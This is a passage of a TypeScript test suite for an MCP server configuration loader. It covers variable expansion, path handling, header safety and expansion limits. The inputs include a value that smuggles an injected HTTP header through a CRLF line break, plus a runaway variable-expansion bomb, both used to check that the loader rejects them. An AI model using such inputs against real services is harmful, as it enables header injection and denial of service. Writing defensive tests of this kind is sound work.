    const { servers, problems } = await loadConfig({ userFile: bom, env: {} });
    expect(problems).toEqual([]);
    expect(servers.map((s) => s.name)).toEqual(['good']);
  });

  it('reads a file that both paths lead to once, as the user file', async () => {
    const dir = await dirs.create();
    const file = await writeIn(dir, '.garuda/mcp.json', `{"servers": {${GOOD}}}`);
    const { symlink } = await import('node:fs/promises');
    const link = path.join(dir, 'link.json');
    await symlink(file, link);
    for (const projectFile of [
      file,
      path.join(dir, '.garuda', '..', '.garuda', 'mcp.json'),
      link,
    ]) {
      const result = await loadConfig({ userFile: file, projectFile, env: {} });
      expect(result.problems).toEqual([]);
      expect(result.servers.map((s) => [s.name, s.source])).toEqual([['good', 'user']]);
    }
  });
});

describe('loadConfig env and header expansion', () => {
  it('expands ${NAME} and says where every value comes from', async () => {
    const { file, servers, problems } = await loadUserFile(
      {
        servers: {
          github: {
            command: 'github-mcp-server',
            env: {
              GITHUB_PERSONAL_ACCESS_TOKEN: '${GITHUB_TOKEN}',
              MODE: 'read-only',
              MIXED: '${A}-${B}-${A}',
              DOLLARS: '$HOME and $$ and $',
            },
          },
          api: {
            url: 'https://mcp.example.com/mcp',
            headers: { Authorization: 'Bearer ${API_TOKEN}', 'X-Client': 'garuda' },
          },
        },
      },
      { GITHUB_TOKEN: 'ghp_123', A: 'a', API_TOKEN: 'tok' },
    );
    const [github, api] = servers;
    expect(github?.kind === 'local' && github.env).toEqual({
      GITHUB_PERSONAL_ACCESS_TOKEN: {
        value: 'ghp_123',
        source: { kind: 'vars', names: ['GITHUB_TOKEN'], missing: [] },
      },
      MODE: { value: 'read-only', source: { kind: 'literal' } },
      MIXED: { value: 'a--a', source: { kind: 'vars', names: ['A', 'B'], missing: ['B'] } },
      DOLLARS: { value: '$HOME and $$ and $', source: { kind: 'literal' } },
    });
    // The definition keeps the values as written.
    expect(github?.def.kind === 'local' && github.def.env.GITHUB_PERSONAL_ACCESS_TOKEN).toBe(
      '${GITHUB_TOKEN}',
    );
    expect(api?.kind === 'remote' && api.headers).toEqual({
      Authorization: {
        value: 'Bearer tok',
        source: { kind: 'vars', names: ['API_TOKEN'], missing: [] },
      },
      'X-Client': { value: 'garuda', source: { kind: 'literal' } },
    });
    expect(problems).toEqual([
      expect.objectContaining({
        code: ConfigProblemCode.MISSING_VARIABLE,
        file,
        server: 'github',
        field: 'env.MIXED',
        message: expect.stringContaining('${B}, which is not set'),
      }),
    ]);
  });

  it('only looks at own properties of env', async () => {
    const { servers, problems } = await loadUserFile({
      servers: { s: { command: 'x', env: { A: '${constructor}${toString}' } } },
    });
    expect(servers[0]?.kind === 'local' && servers[0].env.A?.value).toBe('');
    expect(problems[0]?.code).toBe(ConfigProblemCode.MISSING_VARIABLE);
  });

  it('leaves out a server whose header would carry a line break, without showing the value', async () => {
    const dir = await dirs.create();
    const file = await writeIn(
      dir,
      'mcp.json',
      JSON.stringify({
        servers: {
          api: { url: 'https://mcp.example.com', headers: { Authorization: 'Bearer ${TOKEN}' } },
          ok: { command: 'x' },
        },
      }),
    );
    const secret = 'sekrit\r\nX-Injected: 1';
    const { servers, problems } = await loadConfig({ userFile: file, env: { TOKEN: secret } });
    expect(servers.map((s) => s.name)).toEqual(['ok']);
    expect(problems).toMatchObject([
      { code: ConfigProblemCode.VALUE_UNSAFE, server: 'api', field: 'headers.Authorization' },
    ]);
    expect(JSON.stringify(problems)).not.toContain('sekrit');
  });

  it('refuses a value that expands to more than the limit, quickly', async () => {
    const dir = await dirs.create();
    const env: Record<string, string> = {};
    for (let i = 0; i < 2000; i++) env[`V${i}`] = '${BIG}'.repeat(40);
    const file = await writeIn(
      dir,
      'mcp.json',
      JSON.stringify({ servers: { bomb: { command: 'x', env }, ok: { command: 'y' } } }),
    );
    const started = performance.now();
    const { servers, problems } = await loadConfig({
      userFile: file,
      env: { BIG: 'x'.repeat(50_000) },
    });
    // A guard against runaway expansion, not a speed test: loose, so a busy machine cannot fail it.
    expect(performance.now() - started).toBeLessThan(30_000);
    expect(servers.map((s) => s.name)).toEqual(['ok']);
    expect(problems[0]).toMatchObject({ code: ConfigProblemCode.VALUE_TOO_LONG, server: 'bomb' });
  });
});

describe('loadConfig expansion budget', () => {
  it('limits what one server and all servers together may expand to', async () => {
    const dir = await dirs.create();
    const env: Record<string, string> = {};
    for (let i = 0; i < 20; i++) env[`V${i}`] = '${BIG}';
    const servers: Record<string, unknown> = {};
    for (let i = 0; i < 30; i++) servers[`s${i}`] = { command: 'x', env: { ONE: '${BIG}' } };
    servers.wide = { command: 'x', env };
    const file = await writeIn(dir, 'mcp.json', JSON.stringify({ servers }));
    const big = 'x'.repeat(90_000);
    const result = await loadConfig({ userFile: file, env: { BIG: big } });
    // 30 servers × 90 000 characters fit in 16 MiB; the wide one needs 1.8 M > 1 MiB.
    expect(result.servers.map((s) => s.name)).toHaveLength(30);
    expect(result.problems.filter((p) => p.server === 'wide').map((p) => p.code)).toContain(
      ConfigProblemCode.VALUE_TOO_LONG,
    );

    const many: Record<string, unknown> = {};
    for (let i = 0; i < 40; i++) many[`s${i}`] = { command: 'x', env };
    const file2 = await writeIn(dir, 'many.json', JSON.stringify({ servers: many }));
    const small = 'y'.repeat(45_000); // 20 × 45 000 = 900 000 per server: fits one, not 40
    const result2 = await loadConfig({ userFile: file2, env: { BIG: small } });
    const loaded = result2.servers.length;
    expect(loaded).toBeGreaterThan(10);
    expect(loaded).toBeLessThan(40);
    expect(loaded * 900_000).toBeLessThanOrEqual(16 * 1024 * 1024);
  });
});

describe('loadConfig arguments', () => {
  it('throws only for programming errors', async () => {
    await expect(loadConfig(undefined as never)).rejects.toMatchObject({
      name: 'ConfigError',
      code: 'INVALID_ARGUMENT',
    });
    await expect(loadConfig({} as never)).rejects.toThrow(/env must be an object/);
    await expect(loadConfig({ userFile: 3 as never, env: {} })).rejects.toThrow(/userFile/);
    await expect(loadConfig({ projectFile: '', env: {} })).rejects.toThrow(/projectFile/);
  });
});
